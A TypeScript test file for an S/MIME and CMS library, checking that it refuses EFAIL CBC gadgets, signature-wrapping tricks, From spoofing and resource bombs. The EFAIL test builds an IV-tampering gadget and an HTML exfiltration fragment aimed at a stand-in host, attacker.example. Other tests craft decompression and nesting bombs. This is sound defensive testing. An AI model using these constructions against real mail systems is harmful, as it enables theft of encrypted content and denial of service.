/**
 * Known attack shapes from the brief's "Safe verification" (EFAIL 2018, "Johnny,
 * you are fired" 2019, parser CVEs) that test/cms and test/smime do not already
 * cover, each as a fixed input with the verdict it must get.
 */
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { TestPki } from '../helpers/pki.ts';
import { signMessage } from '../../src/smime/sign-message.ts';
import { encryptMessage } from '../../src/smime/encrypt-message.ts';
import { verifyMessage } from '../../src/smime/verify-message.ts';
import { decryptMessage } from '../../src/smime/decrypt-message.ts';
import { inspectMessage } from '../../src/smime/inspect-message.ts';
import { createSignerValidator } from '../../src/pki/create-signer-validator.ts';
import { parseEntity } from '../../src/mime/parse-entity.ts';
import { decodeBody } from '../../src/mime/decode-body.ts';
import { buildEntity, buildMultipartBody } from '../../src/mime/build-entity.ts';
import { decode } from '../../src/asn1/ber.ts';
import { sequence, integer, setOf, oid, explicit, octetString } from '../../src/asn1/der.ts';
import { OID } from '../../src/asn1/oids.ts';
import { encodeContentInfo } from '../../src/cms/content-info.ts';
import { encodeAlgorithmIdentifier } from '../../src/cms/algorithm-identifier.ts';
import { verifySignedData } from '../../src/cms/signed-data/verify.ts';
import { decryptData } from '../../src/cms/enveloped-data/decrypt.ts';
import { decompressData } from '../../src/cms/compressed-data.ts';
import { verifyStream } from '../../src/cms/stream/verify-stream.ts';
import { expectTypedFailure, scanTlvs } from './fuzz-kit.ts';
import { isKakitomeError } from '../../src/errors.ts';

/**
 * CPU time of this process in ms. The bounds below catch quadratic blow-ups, not
 * speed; wall time on a loaded 2-core machine (load 20 seen) is many times the CPU
 * time and made them flaky, CPU time is not.
 */
const cpuMs = (): number => {
  const u = process.cpuUsage();
  return (u.user + u.system) / 1000;
};

const pki = new TestPki('Kakitome Corpus Root');
after(() => pki.cleanup());
const alice = pki.identity('rsa2048', 'alice');
const bob = pki.identity('p256', 'bob');
const mallory = pki.identity('p256', 'mallory');
const validateSigner = createSignerValidator({ anchors: [pki.caCert], revocation: { mode: 'off' }, fetchCaIssuers: false });
const bobKeys = [{ key: bob.key, certificate: bob.cert }];
const SECRET = 'The merger closes on Friday at 4711 yen per share.';

const message = (from: string, body = 'Content-Type: text/plain; charset=us-ascii\r\n\r\nPay 100 yen to Alice.\r\n'): Buffer =>
  Buffer.from(`From: ${from}\r\nTo: bob@example.com\r\nSubject: corpus\r\nMIME-Version: 1.0\r\n${body}`, 'latin1');

/** Only the Content-* fields of an entity (to embed it as a body part). */
function asPart(whole: Buffer): Buffer {
  const e = parseEntity(whole);
  return buildEntity(e.headers.filter((h) => h.name.toLowerCase().startsWith('content-')), e.body);
}

const isSignedVerdict = (s: string): boolean => s === 'trusted' || s === 'valid-untrusted';

// ------------------------------------------------------------------ EFAIL

/**
 * EFAIL CBC gadgets (Poddebniak et al. 2018): with one known plaintext block, the
 * attacker XORs the IV to turn the first block into chosen text (here the start of
 * an HTML exfiltration tag) without knowing the key. The result is an
 * unauthenticated but "successful" decryption, so it must never be merged with the
 * attacker's HTML siblings, and standing alone it must be refused (UNAUTH_ENC), or,
 * when unauthenticated content is allowed, reported UNAUTH_ENC.
 * (test/security/03-efail-cbc.test.ts builds the full attack.)
 */
function cbcGadget(enc: Buffer, knownFirstBlock: Buffer, chosen: Buffer): Buffer {
  const outer = parseEntity(enc);
  const der = Buffer.from(decodeBody(outer));
  const spans = scanTlvs(der);
  // EncryptedContentInfo's AlgorithmIdentifier parameters: the IV OCTET STRING of 16 octets.
  const iv = spans.find((t) => der[t.start] === 0x04 && t.valueEnd - t.valueStart === 16 && der[t.start - 11] === 0x06 && der.subarray(t.start - 9, t.start).equals(Buffer.from('608648016503040102', 'hex')));
  assert.ok(iv, 'AES-128-CBC IV found');
  for (let i = 0; i < 16; i++) der[iv.valueStart + i]! ^= knownFirstBlock[i]! ^ chosen[i]!;
  const headers = outer.headers.filter((h) => h.name.toLowerCase() !== 'content-transfer-encoding');
  return buildEntity([...headers, ['Content-Transfer-Encoding', 'base64']], Buffer.from(der.toString('base64').replace(/.{76}/g, '$&\r\n') + '\r\n'));
}

test('EFAIL: a CBC gadget-modified envelope between HTML parts is never decrypted; alone it is UNAUTH_ENC, never signed', async () => {
  const inner = 'Content-Type: text/plain\r\n\r\n' + SECRET + '\r\n';
  const enc = encryptMessage(message('alice@example.com', inner), { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-128-cbc', headerProtection: false });
  const original = await decryptMessage(enc, { keys: bobKeys, allowUnauthenticated: true });
  const known = original.message.subarray(original.message.indexOf('Content-Type'), original.message.indexOf('Content-Type') + 16);
  assert.equal(known.toString(), 'Content-Type: te', 'the attacker knows the first plaintext block');
  // The chosen block keeps the MIME parseable, as a real exploit would.
  const gadget = cbcGadget(enc, known, Buffer.from('X-Img: <img src='));

  // Alone: refused; allowed, CBC "succeeds" with the chosen block, and the verdict says it is unauthenticated.
  await assert.rejects(decryptMessage(gadget, { keys: bobKeys, validateSigner }), (e) => isKakitomeError(e, 'UNAUTH_ENC'));
  const alone = await decryptMessage(gadget, { keys: bobKeys, validateSigner, allowUnauthenticated: true });
  assert.equal(alone.verdict.encryption?.authenticated, false);
  assert.equal(alone.verdict.code, 'UNAUTH_ENC');
  assert.ok(!isSignedVerdict(alone.verdict.status));

  // Inside multipart/mixed with the attacker's HTML around it: not decrypted at all.
  const mixed = buildEntity(
    [['From', 'alice@example.com'], ['To', 'bob@example.com'], ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="efail"']],
    buildMultipartBody('efail', [Buffer.from('Content-Type: text/html\r\n\r\n<img src="http://attacker.example/'), asPart(gadget), Buffer.from('Content-Type: text/html\r\n\r\n">\r\n')]),
  );
  const r = await decryptMessage(mixed, { keys: bobKeys, validateSigner });
  assert.ok(!r.message.toString('latin1').includes(SECRET.slice(16)), 'no plaintext leaks into the output');
  assert.equal(r.verdict.layers[0]?.decrypted, false);
  assert.ok(!isSignedVerdict(r.verdict.status));
});

test('EFAIL: a CBC gadget on sign-then-encrypt breaks the signature instead of passing as signed', async () => {
  const inner = 'Content-Type: text/plain\r\n\r\n' + SECRET + '\r\n';
  const enc = encryptMessage(message('alice@example.com', inner), { recipients: [{ certificate: bob.cert }], contentEncryption: 'aes-128-cbc', sign: { signers: [{ certificate: alice.cert, key: alice.key }], opaque: true }, headerProtection: false });
  const clean = await decryptMessage(enc, { keys: bobKeys, validateSigner });
  assert.equal(clean.verdict.status, 'trusted', clean.verdict.summary);
  // The first block of the opaque SignedData's MIME wrapper is as predictable as any header.
  const known = Buffer.from('Content-Type: ap');
  const gadget = cbcGadget(enc, known, Buffer.from('Content-Type: te'));
  try {
    const r = await decryptMessage(gadget, { keys: bobKeys, validateSigner });
    assert.ok(!isSignedVerdict(r.verdict.status), `gadget passed as ${r.verdict.status}`);
    assert.ok(!r.message.toString('latin1').includes(SECRET) || r.verdict.status !== 'trusted');
  } catch (e) {
    await expectTypedFailure('sign-then-encrypt gadget', () => { throw e; });
  }
});

// ------------------------------------------------- signature wrapping tricks

const aliceSigned = () => signMessage(message('alice@example.com'), { signers: [{ certificate: alice.cert, key: alice.key }], headerProtection: false });

test('multipart/signed with a third, unsigned text/html part is never reported as signed', async () => {
  const signed = parseEntity(aliceSigned());
  const boundary = signed.contentType.params['boundary']!;
  const body = signed.body.toString('latin1');
  const html = `\r\n--${boundary}\r\nContent-Type: text/html\r\n\r\n<b>Wire the money to account 666 instead.</b>\r\n`;
  for (const where of ['before-signature', 'after-signature']) {
    const parts = body.split(`\r\n--${boundary}`);
    // parts: [preamble+first part, signature part, "--" epilogue]
    const tampered = where === 'before-signature'
      ? parts[0] + html.trimEnd() + `\r\n--${boundary}` + parts.slice(1).join(`\r\n--${boundary}`)
      : parts.slice(0, 2).join(`\r\n--${boundary}`) + html.trimEnd() + `\r\n--${boundary}` + parts.slice(2).join(`\r\n--${boundary}`);
    const msg = buildEntity(signed.headers, Buffer.from(tampered, 'latin1'));
    try {
      const v = await verifyMessage(msg, { validateSigner });
      assert.ok(!isSignedVerdict(v.status), `${where}: ${v.status} (${v.summary})`);
    } catch (e) {
      await expectTypedFailure(where, () => { throw e; });
    }
  }
});

test('multipart/mixed of a signed part and an unsigned text/html sibling is partial', async () => {
  const mixed = buildEntity(
    [['From', 'alice@example.com'], ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="m"']],
    buildMultipartBody('m', [asPart(aliceSigned()), Buffer.from('Content-Type: text/html\r\n\r\n<b>Wire the money to account 666 instead.</b>\r\n')]),
  );
  const v = await verifyMessage(mixed, { validateSigner });
  assert.equal(v.status, 'partial');
  assert.equal(v.code, 'PARTIAL_SIGNED');
});

test('a signed message wrapped in a message/rfc822 attachment does not sign the message around it', async () => {
  const wrapper = buildEntity(
    [['From', 'alice@example.com'], ['To', 'bob@example.com'], ['MIME-Version', '1.0'], ['Content-Type', 'multipart/mixed; boundary="fwd"']],
    buildMultipartBody('fwd', [
      Buffer.from('Content-Type: text/plain\r\n\r\nAs agreed, wire the money to account 666 (signed confirmation attached).\r\n'),
      Buffer.concat([Buffer.from('Content-Type: message/rfc822\r\n\r\n'), aliceSigned()]),
    ]),
  );
  const v = await verifyMessage(wrapper, { validateSigner });
  assert.ok(!isSignedVerdict(v.status), `${v.status}: ${v.summary}`);
  for (const s of v.signers) assert.equal(s.scope, 'part');
  // The whole message being one message/rfc822 around a signed message is not signed either.
  const only = buildEntity([['From', 'alice@example.com'], ['MIME-Version', '1.0'], ['Content-Type', 'message/rfc822']], aliceSigned());
  const v2 = await verifyMessage(only, { validateSigner });
  assert.ok(!isSignedVerdict(v2.status), `${v2.status}: ${v2.summary}`);
});

test('From spoofing: a display name that looks like another address, and two From addresses', async () => {
  const signer = [{ certificate: mallory.cert, key: mallory.key }];
  const disguised = signMessage(message('"alice@example.com" <mallory@example.com>'), { signers: signer, headerProtection: false });
  const v1 = await verifyMessage(disguised, { validateSigner });
  // Mallory really signed as Mallory: the verdict must name Mallory, not Alice.
  assert.equal(v1.signers[0]!.email, 'mallory@example.com');
  assert.ok(!v1.summary.includes('alice@example.com') || v1.summary.includes('mallory@example.com'), v1.summary);
  const twoFrom = signMessage(message('alice@example.com, mallory@example.com'), { signers: signer, headerProtection: false });
  const v2 = await verifyMessage(twoFrom, { validateSigner });
  assert.notEqual(v2.status, 'trusted', `two authors, one signer: ${v2.summary}`);
  assert.equal(v2.code, 'IDENTITY_MISMATCH', v2.summary);
  const secondFromField = Buffer.from(aliceSigned().toString('latin1').replace('From: alice@example.com\r\n', 'From: alice@example.com\r\nFrom: mallory@example.com\r\n'), 'latin1');
  // Two From fields: programs show either one, so the message is refused (issue 9 item 4).
  await assert.rejects(verifyMessage(secondFromField, { validateSigner }), (e) => isKakitomeError(e, 'MALFORMED'));
});

// ------------------------------------------------------------ resource bombs

function timed<T>(what: string, budgetMs: number, fn: () => T): T {
  const t0 = cpuMs();
  const r = fn();
  const ms = cpuMs() - t0;
  assert.ok(ms < budgetMs, `${what} took ${ms.toFixed(0)} ms (budget ${budgetMs})`);
  return r;
}

test('10,001 empty SignerInfos or RecipientInfos are refused fast (LIMIT or MALFORMED, typed)', async () => {
  const empties = (n: number) => Array.from({ length: n }, () => Buffer.from([0x30, 0x00]));
  const eci = sequence(oid(OID.data), explicit(0, octetString(Buffer.from('x'))));
  const signed = encodeContentInfo(OID.signedData, sequence(integer(1), setOf([]), eci, setOf(empties(10_001))));
  const e1 = await timed('signers', 1000, () => expectTypedFailure('10,001 signers', () => verifySignedData(signed)));
  assert.ok(e1.code === 'LIMIT' || e1.code === 'MALFORMED', e1.code);
  const many = encodeContentInfo(OID.signedData, sequence(integer(1), setOf([]), eci, setOf(empties(40))));
  await expectTypedFailure('40 empty signers (over maxSigners)', () => verifySignedData(many), 'LIMIT');
  const alg = encodeAlgorithmIdentifier(OID.aes128_CBC, octetString(Buffer.alloc(16)));
  const enveloped = encodeContentInfo(OID.envelopedData, sequence(integer(2), setOf(empties(10_001)), sequence(oid(OID.data), alg, Buffer.from([0x80, 0x10, ...Buffer.alloc(16)]))));
  await timed('recipients', 1000, () => expectTypedFailure('10,001 recipients', () => decryptData(enveloped, { keys: bobKeys }), 'LIMIT'));
});

test('1 MiB of nested indefinite-length constructed OCTET STRINGs is LIMIT, fast, in memory and streaming', async () => {
  const depth = (1 << 20) / 4;
  const bomb = Buffer.concat([Buffer.alloc(depth * 2, Buffer.from([0x24, 0x80])), Buffer.alloc(depth * 2)]);
  await timed('decode', 1000, () => expectTypedFailure('decode', () => decode(bomb), 'LIMIT'));
  // As the eContent of a SignedData: the in-memory and the streaming verifier.
  const head = Buffer.from('3080' + '06092a864886f70d010702' + 'a080' + '3080' + '020101' + '3100' + '3080' + '06092a864886f70d010701' + 'a080', 'hex');
  const cms = Buffer.concat([head, bomb, Buffer.alloc(10)]);
  await timed('verifySignedData', 1000, () => expectTypedFailure('verifySignedData', () => verifySignedData(cms), 'LIMIT'));
  const t0 = cpuMs();
  async function* chunks() {
    for (let i = 0; i < cms.length; i += 65536) yield cms.subarray(i, i + 65536);
  }
  const e = await expectTypedFailure('verifyStream', () => verifyStream(chunks()));
  assert.ok(e.code === 'LIMIT' || e.code === 'MALFORMED', e.code);
  assert.ok(cpuMs() - t0 < 2000, 'streaming verifier refuses it fast');
  // And inside a message.
  const msg = buildEntity([['From', 'alice@example.com'], ['MIME-Version', '1.0'], ['Content-Type', 'application/pkcs7-mime; smime-type=signed-data'], ['Content-Transfer-Encoding', 'base64']], Buffer.from(cms.toString('base64')));
  try {
    const v = await verifyMessage(msg);
    assert.ok(!isSignedVerdict(v.status));
  } catch (x) {
    await expectTypedFailure('verifyMessage', () => { throw x; });
  }
  inspectMessageTyped(msg);
});

function inspectMessageTyped(msg: Buffer): void {
  try {
    inspectMessage(msg);
  } catch (e) {
    void expectTypedFailure('inspectMessage', () => { throw e; });
  }
}

test('a wide run of 500,000 empty BER segments is read in linear time', async () => {
  const segs = Buffer.alloc(500_000 * 2, Buffer.from([0x04, 0x00]));
  const eContent = Buffer.concat([Buffer.from([0x24, 0x80]), segs, Buffer.from([0, 0])]);
  const cms = Buffer.concat([Buffer.from('3080' + '06092a864886f70d010702' + 'a080' + '3080' + '020101' + '3100' + '3080' + '06092a864886f70d010701' + 'a080', 'hex'), eContent, Buffer.alloc(8), Buffer.from('3100', 'hex'), Buffer.alloc(6)]);
  await timed('500k segments', 3000, () => expectTypedFailure('500k segments, no signers', () => verifySignedData(cms)));
});

test('a zlib bomb in CompressedData stops at maxDecompressedBytes', async () => {
  const bomb = deflateSync(Buffer.alloc(64 << 20));
  const cms = encodeContentInfo(OID.compressedData, sequence(integer(0), encodeAlgorithmIdentifier(OID.zlibCompress), sequence(oid(OID.data), explicit(0, octetString(bomb)))));
  const before = process.memoryUsage().rss;
  await timed('zlib bomb', 2000, () => expectTypedFailure('zlib bomb', () => decompressData(cms, { limits: { maxDecompressedBytes: 1 << 20 } }), 'LIMIT'));
  assert.ok(process.memoryUsage().rss - before < 48 << 20, 'memory stays bounded');
});

// --------------------------------------------------------------- MIME bombs

async function refusedFast(what: string, msg: Buffer, budgetMs: number, opaque = false): Promise<void> {
  const t0 = cpuMs();
  // message/rfc822 bodies are kept opaque (not parsed), so they may parse; nested multiparts may not.
  if (opaque) parseEntity(msg);
  else await expectTypedFailure(`${what} (parseEntity)`, () => parseEntity(msg), 'LIMIT');
  try {
    const v = await verifyMessage(msg);
    assert.ok(!isSignedVerdict(v.status), what);
  } catch (e) {
    await expectTypedFailure(`${what} (verifyMessage)`, () => { throw e; });
  }
  const ms = cpuMs() - t0;
  assert.ok(ms < budgetMs, `${what} took ${ms.toFixed(0)} ms`);
}

test('MIME bombs with default limits: 100,000 parts, multiparts 10,000 deep, message/rfc822 10,000 deep', async () => {
  const parts = Buffer.from(`Content-Type: multipart/mixed; boundary=p\r\n\r\n${'--p\r\n\r\n\r\n'.repeat(100_000)}--p--\r\n`);
  await refusedFast('100,000 parts', parts, 3000);
  let open = '';
  let close = '';
  for (let i = 0; i < 10_000; i++) {
    open += `Content-Type: multipart/mixed; boundary=d${i}\r\n\r\n--d${i}\r\n`;
    close = `\r\n--d${i}--\r\n` + close;
  }
  await refusedFast('multipart 10,000 deep', Buffer.from(open + 'Content-Type: text/plain\r\n\r\nleaf' + close), 3000);
  await refusedFast('message/rfc822 10,000 deep', Buffer.from('Content-Type: message/rfc822\r\n\r\n'.repeat(10_000) + 'Content-Type: text/plain\r\n\r\nleaf\r\n'), 3000, true);
});

test('boundary scanning stays linear: 4 MB of lines that start like the delimiter but are not', async () => {
  const body = '--a-not-quite\r\n'.repeat(280_000);
  const msg = Buffer.from(`Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: text/plain\r\n\r\n${body}\r\n--a--\r\n`);
  const t0 = cpuMs();
  try {
    parseEntity(msg);
  } catch (e) {
    await expectTypedFailure('near-delimiters', () => { throw e; });
  }
  const ms = cpuMs() - t0;
  assert.ok(ms < 3000, `parseEntity took ${ms.toFixed(0)} ms`);
});

test('header pathologies stay fast and typed: 50,000 parameters or RFC 2231 continuations, huge continuation indices, 60,000 encoded words, 200,000 folds', async () => {
  const cases: Record<string, string> = {
    'huge continuation index': 'Content-Type: text/plain; name*99999999=a; name*0=b\r\n\r\nx',
    '50,000 parameters': 'Content-Type: text/plain; ' + Array.from({ length: 50_000 }, (_, i) => `p${i}=v`).join('; ') + '\r\n\r\nx',
    '50,000 continuations': 'Content-Type: text/plain; ' + Array.from({ length: 50_000 }, (_, i) => `name*${i}=v`).join('; ') + '\r\n\r\nx',
    '60,000 encoded words': 'Subject: ' + '=?UTF-8?B?44GC?= '.repeat(60_000) + '\r\nContent-Type: text/plain\r\n\r\nx',
    '200,000 folds': 'Subject: a' + '\r\n b'.repeat(200_000) + '\r\nContent-Type: text/plain\r\n\r\nx',
    '300,000 soft line breaks': 'Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n' + '=\r\n'.repeat(300_000),
    'base64 of nothing but invalid characters': 'Content-Type: application/pkcs7-mime; smime-type=signed-data\r\nContent-Transfer-Encoding: base64\r\n\r\n' + '!!!!'.repeat(200_000),
  };
  for (const [what, text] of Object.entries(cases)) {
    const msg = Buffer.from(text, 'latin1');
    const t0 = cpuMs();
    for (const run of [() => parseEntity(msg), () => inspectMessage(msg), () => verifyMessage(msg)]) {
      try {
        const r = await run();
        if (r && typeof r === 'object' && 'status' in r) assert.ok(!isSignedVerdict(r.status), what);
      } catch (e) {
        await expectTypedFailure(what, () => { throw e; });
      }
    }
    const ms = cpuMs() - t0;
    assert.ok(ms < 3000, `${what}: ${ms.toFixed(0)} ms`);
  }
});
